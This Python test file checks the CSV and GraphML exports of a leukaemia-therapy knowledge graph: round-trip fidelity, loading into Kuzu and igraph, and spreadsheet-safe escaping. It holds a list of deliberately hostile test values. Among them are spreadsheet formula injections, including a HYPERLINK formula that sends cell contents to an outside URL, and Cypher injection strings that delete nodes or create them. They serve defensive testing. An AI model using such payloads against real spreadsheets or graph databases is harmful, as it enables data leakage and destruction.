"""The property graph, as CSV and as GraphML: other software reads it, and the graph can be had back from it."""

import csv
import io
import json
import re
import shutil
from collections import Counter
from collections.abc import Callable, Iterable
from pathlib import Path

import networkx as nx
import pyoxigraph as ox
import pytest

import checking_tools
from commands import call
from leukograph import exporting, formats, knowledge, material
from leukograph.errors import DataError
from leukograph.material import Material
from leukograph.names import GRAPHS, LGD, LGO, PAGE, RDF_TYPE, RDFS_LABEL, graph_iri
from leukograph.records import Exported

ROOT = Path(__file__).parents[1]
DOCS = ROOT / "docs" / "exports"
CHOICES = (*GRAPHS, "all")
XSD = "http://www.w3.org/2001/XMLSchema#"
HOSTILE = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "''", "'", "\uff1d1", "\uff0b1", "\uff0d1",
    "\uff201", '=HYPERLINK("https://e.org/?"&A1,"x")', 'a "quoted", cell\r\nof two lines', "\u00a0=1", "\0=1", " ",
    "'); MATCH (n) DELETE n; //", "`}) CREATE (:Drug {id: 'x'}) //", "$Statement", "\\", "</data><!-- ]]> &amp; -->",
    "a=1", "\u200b=1", "\ufeff@1", "1-1", "\ufeff", "\u202e", "\U0001f9ec", "x" * 40_000,
)  # fmt: skip
NO_XML = [text for text in HOSTILE if "\0" in text]


@pytest.fixture(scope="module")
def whole() -> Material:
    return material.gather(str(ROOT), GRAPHS)


@pytest.fixture(scope="module")
def made() -> Callable[[str, str], Exported]:
    kept: dict[tuple[str, str], Exported] = {}
    return lambda name, graph: kept.setdefault((name, graph), exporting.export(str(ROOT), name, graph))


def chosen(graph: str) -> tuple[str, ...]:
    return GRAPHS if graph == "all" else (graph,)


def table(export: Exported, name: str) -> list[dict[str, str]]:
    text = dict(export.files)[name].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def term(text: str) -> ox.NamedNode | ox.BlankNode:
    return ox.BlankNode(text[2:]) if text.startswith("_:") else ox.NamedNode(text)


def literal(text: str, datatype: str, language: str) -> ox.Literal:
    return ox.Literal(text, language=language) if language else ox.Literal(text, datatype=ox.NamedNode(datatype))


def quads(
    nodes: Iterable[dict[str, str]],
    links: Iterable[dict[str, str]],
    columns: dict[str, tuple[str, str, str]],
) -> set[ox.Quad]:
    """Return the quads that a property graph holds: how a reader of any of these files would get RDF again.

    Columns are property, datatype and language by name; a node or link has its layer.
    """
    found = set()
    values = {}
    for node in nodes:
        if node.get("datatype"):
            values[node["id"]] = literal(node["text"], node["datatype"], node["language"])
            continue
        for name, (iri, datatype, language) in columns.items():
            if node.get(name):
                said = literal(node[name], datatype, language)
                layer = ox.NamedNode(graph_iri(node["layer"]))
                found.add(ox.Quad(term(node["id"]), ox.NamedNode(iri), said, layer))
    for link in links:
        end = values.get(link["to"]) or term(link["to"])
        layer = ox.NamedNode(graph_iri(link["layer"]))
        found.add(ox.Quad(term(link["from"]), ox.NamedNode(link["property"]), end, layer))
    return found


def from_csv(export: Exported) -> set[ox.Quad]:
    columns = {
        row["name"]: (row["property"], row["datatype"], row["language"])
        for row in table(export, "properties.csv")
        if row["holds"] == "column"
    }
    return quads(table(export, "nodes.csv"), table(export, "relationships.csv"), columns)


def from_graphml(export: Exported) -> set[ox.Quad]:
    ((_, content),) = export.files
    columns = {}
    for name, about in re.findall(r'<key id="node-(\w+)"[^>]*><desc>(.*?)</desc>', content.decode("utf-8")):
        iri, datatype, *language = about.split(" ")
        columns[name] = (iri, datatype, "".join(language))
    graph = nx.parse_graphml(content.decode("utf-8"), force_multigraph=True)
    iris = dict(graph.nodes(data="iri"))
    nodes = [
        {"id": data["iri"], **{key: str(value) for key, value in data.items()}} for _, data in graph.nodes(data=True)
    ]
    links = [{"from": iris[start], "to": iris[end], **data} for start, end, data in graph.edges(data=True)]
    return quads(nodes, links, columns)


def from_spreadsheet(export: Exported) -> set[ox.Quad]:
    return from_csv(Exported(tuple((name, unguarded(content)) for name, content in export.files)))


def unguarded(content: bytes) -> bytes:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return formats.csv_lines([formats.unguarded(cell) for cell in row] for row in rows).encode()


READERS = {"csv": from_csv, "csv-spreadsheet": from_spreadsheet, "graphml": from_graphml}


@pytest.mark.parametrize("graph", CHOICES)
@pytest.mark.parametrize("name", READERS)
def test_the_graph_can_be_had_back_exactly(
    whole: Material, made: Callable[[str, str], Exported], name: str, graph: str
) -> None:
    found = READERS[name](made(name, graph))
    wanted = {quad for one in chosen(graph) for quad in whole.quads[one]}
    names = {ox.NamedNode(graph_iri(one)) for one in chosen(graph)}
    assert wanted
    assert {quad for quad in found if quad.graph_name in names} == wanted
    # Beside them stand names of things that are only referred to, each under the layer that names it.
    beside = {quad for quad in found if quad.graph_name not in names}
    assert {quad.predicate.value for quad in beside} <= {RDFS_LABEL}
    assert beside <= {quad for one in GRAPHS for quad in whole.quads[one]}
    assert made(name, graph).losses == ()


@pytest.mark.parametrize("graph", CHOICES)
def test_what_is_said_again_for_reading_is_what_the_graph_says(
    whole: Material, made: Callable[[str, str], Exported], graph: str
) -> None:
    looked = 0
    for row in table(made("csv", graph), "nodes.csv"):
        modality = whole.values(row["id"], LGO + "hasModality", *chosen(graph))
        assert row.get("modality", "") == " ".join(one.rsplit("/", 1)[-1] for one in modality)
        types = {re.split("[/#]", one)[-1] for one in whole.values(row["id"], RDF_TYPE)}
        assert set(row["type"].split()) <= types
        looked += bool(modality)
    assert looked == (23 if graph in (PAGE, "all") else 0)


@pytest.mark.parametrize("graph", CHOICES)
def test_nothing_is_said_that_the_graph_does_not_say(made: Callable[[str, str], Exported], graph: str) -> None:
    """No short cut from a therapy to a disease, no word of approval or effect: a statement stands between, always."""
    export = made("csv", graph)
    kinds = {row["id"]: row["group"] for row in table(export, "nodes.csv")}
    ends = {frozenset((kinds[row["from"]], kinds[row["to"]])) for row in table(export, "relationships.csv")}
    assert frozenset(("Therapy", "Disease")) not in ends
    options = [row for row in table(export, "relationships.csv") if row["type"] == "DESCRIBES_THERAPY"]
    assert len(options) == (16 if graph in (PAGE, "all") else 0)
    assert {kinds[row["from"]] for row in options} <= {"Statement"}
    names = {row["name"].lower() for row in table(export, "properties.csv")} | {kind.lower() for kind in kinds.values()}
    assert not [one for one in names if re.search("treats|approv|indicat|efficac|cure|rank|recommended", one)]
    research = [row["from"] for row in table(export, "relationships.csv") if row["type"] == "HAS_RESEARCH_STATUS"]
    assert research == ([LGD + "option-inotuzumab-ozogamicin-ph-positive"] if graph in (PAGE, "all") else [])


@pytest.mark.parametrize("graph", [PAGE, "all"])
def test_two_readers_of_graphml_count_what_the_tables_count(
    made: Callable[[str, str], Exported], graph: str, tmp_path: Path
) -> None:
    nodes, links = (len(table(made("csv", graph), f"{name}.csv")) for name in ("nodes", "relationships"))
    ((_, content),) = made("graphml", graph).files
    read = nx.parse_graphml(content.decode("utf-8"))
    assert (len(read), read.number_of_edges()) == (nodes, links) == ((546, 1551) if graph == PAGE else (1928, 5412))
    starts = [data["start"] for _, data in read.nodes(data=True) if "start" in data]
    assert len(starts) == 137
    assert all(isinstance(one, int) for one in starts)
    (tmp_path / "g.graphml").write_bytes(content)
    done = checking_tools.run("igraph", "python", "-c", IGRAPH, "g.graphml", folder=tmp_path)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {
        "nodes": nodes, "links": links, "starts": sum(starts), "statements": 23, "therapy": "blinatumomab",
        "booleans": [["", nodes - 3], ["false", 3]],
    }  # fmt: skip


IGRAPH = """
import collections, json, sys, igraph
graph = igraph.Graph.Read_GraphML(sys.argv[1])
assert graph.is_directed()
statement = graph.vs.find(iri="https://w3id.org/leukograph/data/option-blinatumomab-ph-negative")
(therapy,) = [edge.target for edge in statement.out_edges() if edge["type"] == "DESCRIBES_THERAPY"]
print(json.dumps({
    "nodes": graph.vcount(), "links": graph.ecount(),
    "starts": int(sum(one for one in graph.vs["start"] if one == one)),
    "statements": sum(kind == "Statement" for kind in graph.vs["kind"]),
    "therapy": graph.vs[therapy]["label"],
    "booleans": sorted(collections.Counter(graph.vs["sourceExhaustive"]).items()),
}))
"""


def test_a_broken_graphml_is_refused(made: Callable[[str, str], Exported], tmp_path: Path) -> None:
    ((_, content),) = made("graphml", PAGE).files
    (tmp_path / "g.graphml").write_bytes(content.replace(b'target="n0"', b'target="nobody"', 1)[:-20])
    with pytest.raises(Exception, match=r"no element found|unclosed token|mismatched"):
        nx.read_graphml(tmp_path / "g.graphml")
    done = checking_tools.run("igraph", "python", "-c", IGRAPH, "g.graphml", folder=tmp_path)
    assert done.returncode != 0
    typed = content.replace(b'<data key="node-start">', b'<data key="node-start">x', 1)
    with pytest.raises(ValueError, match="invalid literal for int"):
        nx.parse_graphml(typed.decode("utf-8"))


LOADER = re.search(r"```python\n(.*?)```", (DOCS / "csv.md").read_text(encoding="utf-8"), re.DOTALL)
QUERIES = {
    "MATCH (n) RETURN label(n), n.layer, count(*)": "nodes",
    "MATCH ()-[r]->() RETURN label(r), r.layer, count(*)": "links",
    """MATCH (s:Statement)-[:DESCRIBES_THERAPY]->(t:Therapy), (s)-[:FOR_DISEASE]->(d:Disease),
    (s)-[:COVERS_STATE]->(c:DiseaseState), (s)-[:FOR_AGE_GROUP]->(a:AgeGroup)
    RETURN s.id, s.layer, s.modality, s.paraphrase, t.id, d.id, c.id, a.id""": """
    SELECT ?s ("page" AS ?layer) (STRAFTER(STR(?m), "vocabulary/") AS ?modality) ?p ?t ?d ?c ?a
    { ?s lgo:describesTherapy ?t ; lgo:forDisease ?d ; lgo:coversState ?c ; lgo:forAgeGroup ?a ;
        lgo:hasModality ?m ; lgo:paraphrase ?p }""",
    """MATCH (s:Statement)-[:SCOPED_BY]->(x:Scope)-[:BASED_ON]->(b:ScopeBasis), (x)-[:GIVEN_BY]->(m:Mention),
    (m)-[:HAS_SELECTOR]->(p:TextPositionSelector) RETURN s.id, b.id, m.exactText, p.`start`, p.`end`""": """
    SELECT ?s ?b ?text ?start ?end { ?s lgo:scopedBy ?x ; lgo:hasModality ?is . ?x lgo:basedOn ?b ; lgo:givenBy ?m .
        ?m lgo:exactText ?text ; oa:hasSelector ?p . ?p oa:start ?start ; oa:end ?end }""",
    "MATCH (l:OptionList) RETURN l.id, l.sourceExhaustive, l.transcriptionComplete": """
    SELECT ?l ?e ?c { ?l lgo:sourceExhaustive ?e ; lgo:transcriptionComplete ?c }""",
    "MATCH (t)-[r:ALT_LABEL]->(v:Value) RETURN t.id, v.text, v.language, v.layer": """
    SELECT ?t ?v (LANG(?v) AS ?language) (STRAFTER(STR(?g), "/graph/") AS ?layer)
    { GRAPH ?g { ?t skos:altLabel ?v } }""",
}


def load(export: Exported, queries: Iterable[str], folder: Path) -> list[list[list[object]]]:
    """Load an export into Kuzu with the loader of the documentation, and return the rows of each query."""
    assert LOADER
    for name, content in export.files:
        (folder / name).write_bytes(content)
    script = LOADER[1].replace('Path("leukograph-csv")', 'Path(".")')
    asked = f"print(json.dumps([[list(row) for row in connection.execute(one)] for one in {list(queries)!r}]))"
    done = checking_tools.run("kuzu", "python", "-c", f"import json\n{script}\n{asked}", folder=folder)
    assert done.returncode == 0, done.stderr
    answer: list[list[list[object]]] = json.loads(done.stdout.splitlines()[-1])
    return answer


@pytest.mark.parametrize("graph", [PAGE, "all"])
def test_a_graph_database_loads_it_and_answers_as_the_graph_does(
    whole: Material, made: Callable[[str, str], Exported], graph: str, tmp_path: Path
) -> None:
    export = made("csv", graph)
    rows = dict(zip(QUERIES, load(export, QUERIES, tmp_path), strict=True))
    store = ox.Store()
    store.extend(quad for one in chosen(graph) for quad in whole.quads[one])
    prefixes = {"lgo": LGO, "lgg": graph_iri(""), "oa": "http://www.w3.org/ns/oa#"}
    prefixes["skos"] = "http://www.w3.org/2004/02/skos/core#"
    for cypher, wanted in QUERIES.items():
        found = Counter(tuple(map(str, row)) for row in rows[cypher])
        assert found
        if wanted == "nodes":
            right = Counter((row["group"], row["layer"]) for row in table(export, "nodes.csv"))
            assert found == Counter((*key, str(number)) for key, number in right.items())
        elif wanted == "links":
            right = Counter((row["type"], row["layer"]) for row in table(export, "relationships.csv"))
            assert found == Counter((*key, str(number)) for key, number in right.items())
        else:
            answer = store.query(wanted, prefixes=prefixes, use_default_graph_as_union=True)
            assert isinstance(answer, ox.QuerySolutions)
            lines = {tuple(cell.value if cell else "" for cell in row) for row in answer}
            assert {tuple(one.lower() for one in line) for line in found} == {
                tuple(one.lower() for one in line) for line in lines
            }
            assert found.total() == len(lines)


def test_a_database_refuses_tables_that_do_not_fit(made: Callable[[str, str], Exported], tmp_path: Path) -> None:
    files = dict(made("csv", PAGE).files)
    files["schema.cypher"] = files["schema.cypher"].replace(
        b"FROM `Statement` TO `Disease`", b"FROM `Cue` TO `Disease`"
    )
    with pytest.raises(AssertionError, match=r"violates schema\. Expected labels are OptionList, Cue"):
        load(Exported(tuple(files.items())), [], tmp_path)


# What means harm


def hostile() -> Material:
    """Return a page that says harmful things in every place, and things that no column holds."""
    page, other = ox.NamedNode(graph_iri(PAGE)), ox.NamedNode(graph_iri("background"))
    label, note = ox.NamedNode(RDFS_LABEL), ox.NamedNode("http://e.org/a#note")
    found = []
    for place, text in enumerate(HOSTILE):
        thing = ox.NamedNode(f"http://e.org/{place}")
        found += [
            ox.Quad(thing, ox.NamedNode(RDF_TYPE), ox.NamedNode(LGO + "Statement"), page),
            ox.Quad(thing, label, ox.Literal(text, language="en"), page),
            ox.Quad(thing, note, ox.Literal(text), page),
            ox.Quad(thing, note, ox.Literal(text, language="de"), page),
            ox.Quad(thing, ox.NamedNode("http://e.org/b#note"), ox.Literal(""), page),
            ox.Quad(thing, ox.NamedNode("http://e.org/group"), literal("007", XSD + "integer", ""), page),
            ox.Quad(thing, ox.NamedNode("http://e.org/0-%7B"), literal("1", XSD + "boolean", ""), page),
            ox.Quad(thing, ox.NamedNode("http://e.org/CREATE"), literal("9" * 30, XSD + "integer", ""), page),
            ox.Quad(thing, ox.NamedNode("http://e.org/create"), ox.BlankNode(f"b{place}"), page),
            ox.Quad(thing, ox.NamedNode("http://e.org/Create"), ox.NamedNode("http://e.org/"), page),
        ]
    more = [ox.Quad(ox.NamedNode("http://e.org/0"), label, ox.Literal("another layer", language="en"), other)]
    return Material(
        str(ROOT),
        (PAGE, "background"),
        dict.fromkeys(GRAPHS, ()) | {PAGE: tuple(found), "background": tuple(more)},
    )


@pytest.mark.parametrize("name", READERS)
def test_hostile_values_come_back_as_they_are_or_are_told_as_lost(name: str) -> None:
    page = hostile()
    export = exporting.formats()[name].make(page)
    wanted = set(page.of_chosen())
    lost = {quad for quad in wanted if name == "graphml" and "\0" in getattr(quad.object, "value", "")}
    assert READERS[name](export) == wanted - lost
    told = {(one.record, was) for one in export.losses for was in one.was}
    assert told == {(str(quad.subject)[1:-1], f"{quad.predicate} {quad.object}") for quad in lost}
    assert len(lost) == (3 * len(NO_XML) if name == "graphml" else 0)
    if name == "csv":
        names = [row["name"].lower() for row in table(export, "properties.csv") if row["holds"] == "relationship"]
        assert len(names) == len(set(names))


@pytest.mark.parametrize("name", READERS)
def test_blank_nodes_of_two_graphs_are_never_one(name: str) -> None:
    held: dict[str, tuple[ox.Quad, ...]] = dict.fromkeys(GRAPHS, ())
    for graph in (PAGE, "background"):
        node, layer = ox.BlankNode("c14n0"), ox.NamedNode(graph_iri(graph))
        held[graph] = (ox.Quad(node, ox.NamedNode(RDFS_LABEL), ox.Literal(graph), layer),)
    mixed = Material(str(ROOT), (PAGE, "background"), held)
    with pytest.raises(
        DataError, match=r"^page and background: each has blank nodes, which .* Give those in page and "
    ):
        exporting.formats()[name].make(mixed)


def test_hostile_values_are_values_for_a_database(tmp_path: Path) -> None:
    export = exporting.formats()["csv"].make(hostile())
    query = "MATCH (s:Statement) RETURN s.id, s.label"
    ((*_,), rows) = load(export, ["MATCH (s:Statement) RETURN count(*)", query], tmp_path)
    assert {one: text for one, text in rows if "\0" not in HOSTILE[int(str(one).rsplit("/")[-1])]} == {
        f"http://e.org/{place}": text for place, text in enumerate(HOSTILE) if "\0" not in text
    }


def test_no_cell_for_a_spreadsheet_begins_a_formula() -> None:
    export = exporting.formats()["csv-spreadsheet"].make(hostile())
    raw = exporting.formats()["csv"].make(hostile())
    for name, content in export.files:
        text = content.decode("utf-8")
        assert text.startswith("\ufeff")
        cells = [cell for row in csv.reader(io.StringIO(text[1:], newline="")) for cell in row]
        assert cells
        assert [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")] == []
        assert [cell for cell in cells if cell[:1] in ("\t", "\r", "\n", "\0")] == []
        assert unguarded(content) == dict(raw.files)[name]
    assert b"\r\nStatement,http://e.org/0,page," in dict(raw.files)["nodes.csv"]
    assert b"=1+1" in dict(raw.files)["nodes.csv"]


@pytest.fixture(scope="module")
def copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project of one's own, with labels that mean harm."""
    folder = tmp_path_factory.mktemp("own")
    for part in ("ontology", "data", "queries"):
        shutil.copytree(ROOT / part, folder / part)
    path = next((folder / "data" / "page").rglob("entities.ttl"))
    text = path.read_text(encoding="utf-8")
    for name, harm in (("nelarabine", "=1+1"), ("blinatumomab", "@SUM(A1)"), ("clofarabine", "-2+3")):
        assert f'rdfs:label "{name}"@en' in text
        text = text.replace(f'rdfs:label "{name}"@en', f'rdfs:label "{harm}"@en')
    path.write_text(text, encoding="utf-8")
    for made_anew in knowledge.inferences(str(folder)):
        (folder / made_anew.path).write_bytes(made_anew.content)
    return folder


def test_labels_of_a_project_are_guarded_in_exports_and_answers(
    copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LEUKOGRAPH_HOME", str(copy))
    assert call("export", "csv-spreadsheet", "--output", str(tmp_path / "s")).code == 0
    assert call("export", "csv", "--output", str(tmp_path / "c")).code == 0
    guarded, raw = ((tmp_path / one / "nodes.csv").read_text(encoding="utf-8") for one in "sc")
    for harm in ("=1+1", "@SUM(A1)", "-2+3"):
        assert f",{harm}," in raw
        assert f",{harm}," not in guarded
        assert f",'{harm}," in guarded
    asked = ["ask", "agents-on-page", "--format"]
    plain, safe = call(*asked, "csv"), call(*asked, "csv-spreadsheet")
    assert "=1+1" in plain.out
    rows = [list(csv.reader(io.StringIO(one, newline=""))) for one in (plain.out, safe.out.removeprefix("\ufeff"))]
    assert safe.out.startswith("\ufeff")
    assert [[formats.unguarded(cell) for cell in row] for row in rows[1]] == rows[0]
    assert not [cell for row in rows[1] for cell in row if cell[:1] in tuple("=+-@")]
